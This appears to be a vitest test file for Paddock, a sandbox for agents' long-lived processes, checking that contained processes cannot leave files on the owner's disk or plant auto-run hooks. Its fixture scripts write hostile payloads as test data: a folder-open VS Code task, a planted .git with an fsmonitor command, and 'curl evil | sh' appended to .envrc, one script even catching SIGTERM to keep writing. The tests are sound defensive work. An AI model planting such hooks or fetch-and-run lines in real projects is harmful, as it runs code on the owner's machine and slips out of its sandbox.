// A long-lived contained process (`start`) in the real sandbox (SPEC §4 end, §14): nothing appears on
// the owner's disk for it while it runs or after a kill -9 of Paddock (no placeholder folders), and
// what it plants anywhere in the workspace — a package's `.vscode/tasks.json`, a `.git` planted again
// the moment it is moved — is moved out at once and the process is stopped, so it cannot keep one there.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { Supervisor } from '../../../src/main/processes/supervisor';
import { createOutputTool } from '../../../src/main/tools/output';
import { createStartTool } from '../../../src/main/tools/start';
import { writeInside } from '../../../src/main/workspace/files';
import { sandboxStatus, testSandbox } from '../../support/sandbox';
import { databaseWithAgents, killQuietly, removeTempDirs, tempDir, toolContext, waitFor } from '../processes/helpers';

const FIXTURES = path.resolve(__dirname, '../../fixtures/sandbox');
const TSX = path.resolve(__dirname, '../../../node_modules/.bin/tsx');
const cleanups: Array<() => Promise<void> | void> = [];
const leftovers: number[] = [];
afterEach(async () => {
  for (const cleanup of cleanups.splice(0).reverse()) await cleanup();
  killQuietly(leftovers.splice(0));
  removeTempDirs();
});

/** Every path below `dir` (links not followed), sorted: what the owner's disk holds there. */
function everything(dir: string, rel = ''): string[] {
  return fs
    .readdirSync(path.join(dir, rel), { withFileTypes: true })
    .flatMap((entry) => {
      const child = rel === '' ? entry.name : `${rel}/${entry.name}`;
      return entry.isDirectory() ? [`${child}/`, ...everything(dir, child)] : [child];
    })
    .sort();
}

/** Host pids whose argv carries `token`. */
function holders(token: string): number[] {
  const pids: number[] = [];
  for (const entry of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      if (fs.readFileSync(`/proc/${entry}/cmdline`, 'utf8').split('\0').includes(token)) pids.push(Number(entry));
    } catch {
      // gone meanwhile
    }
  }
  return pids;
}

const IDLE = "console.log('ready'); process.on('SIGTERM', () => {}); setInterval(() => {}, 1000);\n";

function setup() {
  const dataDir = tempDir('paddock-ll-data-');
  const db = databaseWithAgents(dataDir, ['alice']);
  const supervisor = new Supervisor({ db, dataDir, killGraceMs: 500 });
  cleanups.push(async () => {
    await supervisor.stopAll();
    db.close();
  });
  const ws = tempDir('paddock-ll-ws-');
  fs.mkdirSync(path.join(ws, 'packages/app/src'), { recursive: true });
  fs.writeFileSync(path.join(ws, 'packages/app/src/index.ts'), 'export {};\n');
  fs.writeFileSync(path.join(ws, 'idle.cjs'), IDLE);
  const ctx = toolContext({ workspace: ws, agentId: 'alice', dataDir });
  const start = createStartTool({ supervisor, settleMs: 200, sandbox: testSandbox({ dataDir }) });
  const output = createOutputTool({ supervisor });
  const status = (name: string) => supervisor.output('alice', name).status;
  const said = async (name: string) => {
    const result = await output.run({ name }, ctx);
    return result.ok ? result.text : result.error;
  };
  return { ws, dataDir, supervisor, ctx, start, status, said };
}

describe.skipIf(!sandboxStatus().available)('a long-lived contained process and the owner’s disk', () => {
  it('while it runs, the owner’s folder holds nothing new: no placeholder folder, no empty .git', async () => {
    const { ws, ctx, start, status } = setup();
    const before = everything(ws);
    const started = await start.run({ name: 'idle', command: 'node idle.cjs' }, ctx);
    expect(started.ok).toBe(true);
    expect(status('idle')).toBe('running');
    expect(everything(ws)).toEqual(before);
  }, 60_000);

  it('a kill -9 of Paddock while it runs leaves nothing in the owner’s folder', async () => {
    const ws = tempDir('paddock-ll-kill-ws-');
    const home = tempDir('paddock-ll-kill-home-');
    const dataDir = tempDir('paddock-ll-kill-data-');
    fs.mkdirSync(path.join(ws, 'src'));
    // It says it runs in its own /tmp, which is the agent's directory under the data directory, not the workspace.
    fs.writeFileSync(path.join(ws, 'idle.cjs'), `require('node:fs').writeFileSync('/tmp/alive', 'yes');\n${IDLE}`);
    const before = everything(ws);
    const token = `paddock-token-${Math.random().toString(36).slice(2)}`;
    const host = spawn(TSX, [path.join(FIXTURES, 'long-lived-host.ts'), dataDir, home, ws, token], {
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    leftovers.push(host.pid as number);
    let out = '';
    let err = '';
    host.stdout?.on('data', (chunk: Buffer) => (out += chunk.toString()));
    host.stderr?.on('data', (chunk: Buffer) => (err += chunk.toString()));
    await waitFor(() => out.includes('ready') || host.exitCode !== null, 60_000, 'the host to start');
    expect(out, err).toContain('ready');
    const alive = path.join(dataDir, 'sandbox', 'tmp', 'alice', 'alive');
    await waitFor(() => fs.existsSync(alive), 20_000, 'the contained process to run');
    expect(everything(ws)).toEqual(before);
    // tsx runs the host as its own child node: kill both, never the sandbox itself.
    const hostNode = holders(path.join(FIXTURES, 'long-lived-host.ts')).filter((pid) => pid !== host.pid);
    for (const pid of [host.pid as number, ...hostNode]) process.kill(pid, 'SIGKILL');
    await waitFor(() => holders(token).length === 0, 15_000, 'the sandbox to end with its parent');
    leftovers.push(...holders(token));
    expect(everything(ws)).toEqual(before);
  }, 90_000);
});

describe.skipIf(!sandboxStatus().available)('what a long-lived contained process plants', () => {
  it('a package’s `.vscode/tasks.json` it makes is moved out at once and it is stopped, said in its output', async () => {
    const { ws, dataDir, ctx, start, status, said, supervisor } = setup();
    fs.writeFileSync(
      path.join(ws, 'plant.cjs'),
      [
        "const fs = require('node:fs');",
        "process.on('SIGTERM', () => {});",
        "setTimeout(() => { fs.mkdirSync('packages/app/.vscode'); fs.writeFileSync('packages/app/.vscode/tasks.json', '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}'); fs.writeFileSync('ordinary.txt', 'fine\\n'); }, 300);",
        'setInterval(() => {}, 1000);',
      ].join('\n'),
    );
    expect((await start.run({ name: 'planter', command: 'node plant.cjs' }, ctx)).ok).toBe(true);
    await waitFor(() => status('planter') === 'stopped', 20_000, 'the planter to be stopped');
    expect(fs.existsSync(path.join(ws, 'packages/app/.vscode'))).toBe(false);
    expect(fs.readFileSync(path.join(ws, 'ordinary.txt'), 'utf8')).toBe('fine\n');
    const kept = fs.readdirSync(path.join(dataDir, 'refused'));
    expect(kept.some((name) => name.endsWith('-packages-app-.vscode'))).toBe(true);
    const text = await said('planter');
    expect(text).toContain('`packages/app/.vscode` appeared');
    expect(text).toContain('`planter` was stopped');
    // The window says it too (its process list), until the owner dismisses it.
    expect(supervisor.stoppedByPaddock().map((row) => row.stopReason)).toEqual([
      expect.stringContaining('`packages/app/.vscode` appeared') as string,
    ]);
  }, 60_000);

  it('a `.git` planted again the moment it is moved does not stay: the planter is stopped and none is left', async () => {
    const { ws, dataDir, ctx, start, status } = setup();
    // Renames a prepared repository in as soon as none is there, as fast as it can, ignoring SIGTERM.
    fs.writeFileSync(
      path.join(ws, 'replant.cjs'),
      [
        "const fs = require('node:fs');",
        "process.on('SIGTERM', () => {});",
        "console.log('ready');",
        'setTimeout(() => {',
        '  for (let n = 0; ; n++) {',
        "    const prep = 'prep' + n;",
        "    fs.mkdirSync(prep + '/hooks', { recursive: true });",
        "    fs.writeFileSync(prep + '/config', '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n');",
        "    fs.writeFileSync(prep + '/HEAD', 'ref: refs/heads/main\\n');",
        "    while (fs.existsSync('.git')) {}",
        "    try { fs.renameSync(prep, '.git'); } catch {}",
        '  }',
        '}, 300);',
      ].join('\n'),
    );
    expect((await start.run({ name: 'replant', command: 'node replant.cjs' }, ctx)).ok).toBe(true);
    await waitFor(() => status('replant') === 'stopped', 20_000, 'the planter to be stopped');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(fs.existsSync(path.join(ws, '.git'))).toBe(false);
    expect(fs.readdirSync(path.join(dataDir, 'refused')).some((name) => name.endsWith('-.git'))).toBe(true);
  }, 60_000);

  it('with another started process in the same folder, both are stopped, whichever watch saw it first', async () => {
    const { ws, ctx, start, status, said } = setup();
    fs.writeFileSync(
      path.join(ws, 'plant.cjs'),
      "setTimeout(() => require('node:fs').writeFileSync('packages/app/.envrc', 'curl evil | sh'), 500); setInterval(() => {}, 1000);\n",
    );
    expect((await start.run({ name: 'web', command: 'node idle.cjs' }, ctx)).ok).toBe(true);
    expect((await start.run({ name: 'planter', command: 'node plant.cjs' }, ctx)).ok).toBe(true);
    await waitFor(
      () => status('planter') === 'stopped' && status('web') === 'stopped',
      20_000,
      'both processes to be stopped',
    );
    expect(fs.existsSync(path.join(ws, 'packages/app/.envrc'))).toBe(false);
    for (const name of ['web', 'planter']) {
      const text = await said(name);
      expect(text, name).toContain(`\`${name}\` was stopped: \`packages/app/.envrc\` appeared in the workspace`);
      expect(text, name).not.toContain('could not be moved out');
    }
  }, 60_000);

  it('the owner’s `.envrc` saved through a rename while it runs ends its hold in the sandbox: it is stopped, the save kept', async () => {
    const { ws, ctx, start, status, said, supervisor } = setup();
    fs.writeFileSync(path.join(ws, '.envrc'), 'owner\n');
    // Tries to append to .envrc each time the test says go, and writes down what happened.
    fs.writeFileSync(
      path.join(ws, 'writer.cjs'),
      [
        "const fs = require('node:fs');",
        "process.on('SIGTERM', () => {});",
        "console.log('ready');",
        'let n = 0;',
        'setInterval(() => {',
        "  if (!fs.existsSync('go' + n)) return;",
        '  let r;',
        "  try { fs.appendFileSync('.envrc', 'curl evil | sh\\n'); r = 'wrote'; } catch (e) { r = e.code; }",
        "  fs.writeFileSync('result' + n, r);",
        '  n++;',
        '}, 20);',
      ].join('\n'),
    );
    expect((await start.run({ name: 'writer', command: 'node writer.cjs' }, ctx)).ok).toBe(true);
    fs.writeFileSync(path.join(ws, 'go0'), '');
    await waitFor(() => fs.existsSync(path.join(ws, 'result0')), 10_000, 'the first try');
    expect(fs.readFileSync(path.join(ws, 'result0'), 'utf8')).toBe('EROFS');
    // The owner's editor saves it: a new file renamed over the held one.
    fs.writeFileSync(path.join(ws, '.envrc.swp'), 'owner, saved\n');
    fs.renameSync(path.join(ws, '.envrc.swp'), path.join(ws, '.envrc'));
    await waitFor(() => status('writer') === 'stopped', 20_000, 'the writer to be stopped');
    fs.writeFileSync(path.join(ws, 'go1'), '');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(fs.existsSync(path.join(ws, 'result1'))).toBe(false);
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner, saved\n');
    const text = await said('writer');
    expect(text).toContain('`writer` was stopped: `.envrc` was replaced or removed while it ran');
    expect(supervisor.stoppedByPaddock().map((row) => row.stopReason)).toEqual([
      expect.stringContaining('`.envrc` was saved or removed while it ran') as string,
    ]);
  }, 60_000);

  it('stopped because its hold ended, it gets no grace: one that catches SIGTERM to keep writing writes nothing into the save', async () => {
    const { ws, ctx, start, status } = setup();
    fs.writeFileSync(path.join(ws, '.envrc'), 'owner\n');
    // Asked to stop, it would spend its grace appending to the file it can now reach.
    fs.writeFileSync(
      path.join(ws, 'lingerer.cjs'),
      [
        "const fs = require('node:fs');",
        "process.on('SIGTERM', () => { for (;;) { try { fs.appendFileSync('.envrc', 'curl evil | sh\\n'); } catch {} } });",
        "console.log('ready');",
        'setInterval(() => {}, 1000);',
      ].join('\n'),
    );
    expect((await start.run({ name: 'lingerer', command: 'node lingerer.cjs' }, ctx)).ok).toBe(true);
    fs.writeFileSync(path.join(ws, '.envrc.swp'), 'owner, saved\n');
    fs.renameSync(path.join(ws, '.envrc.swp'), path.join(ws, '.envrc'));
    await waitFor(() => status('lingerer') === 'stopped', 20_000, 'the lingerer to be stopped');
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('owner, saved\n');
  }, 60_000);

  it('the owner’s own `.vscode` there before stays, and the owner may write into it while the process runs', async () => {
    const { ws, ctx, start, status } = setup();
    fs.mkdirSync(path.join(ws, 'packages/app/.vscode'));
    expect((await start.run({ name: 'idle', command: 'node idle.cjs' }, ctx)).ok).toBe(true);
    fs.writeFileSync(path.join(ws, 'packages/app/.vscode/settings.json'), '{}\n');
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(fs.readFileSync(path.join(ws, 'packages/app/.vscode/settings.json'), 'utf8')).toBe('{}\n');
    expect(status('idle')).toBe('running');
  }, 60_000);

  it('what Paddock’s own write makes while it runs (an approved `.vscode/settings.json`, an `.envrc`) stays, and the process runs on', async () => {
    const { ws, ctx, start, status } = setup();
    expect((await start.run({ name: 'idle', command: 'node idle.cjs' }, ctx)).ok).toBe(true);
    const pctx = { workspace: ws, home: ctx.home, dataDir: ctx.dataDir };
    expect(writeInside(pctx, 'packages/app/.vscode/settings.json', '{}\n').ok).toBe(true);
    expect(writeInside(pctx, '.envrc', 'export A=1\n').ok).toBe(true);
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(fs.readFileSync(path.join(ws, 'packages/app/.vscode/settings.json'), 'utf8')).toBe('{}\n');
    expect(fs.readFileSync(path.join(ws, '.envrc'), 'utf8')).toBe('export A=1\n');
    expect(status('idle')).toBe('running');
  }, 60_000);
});
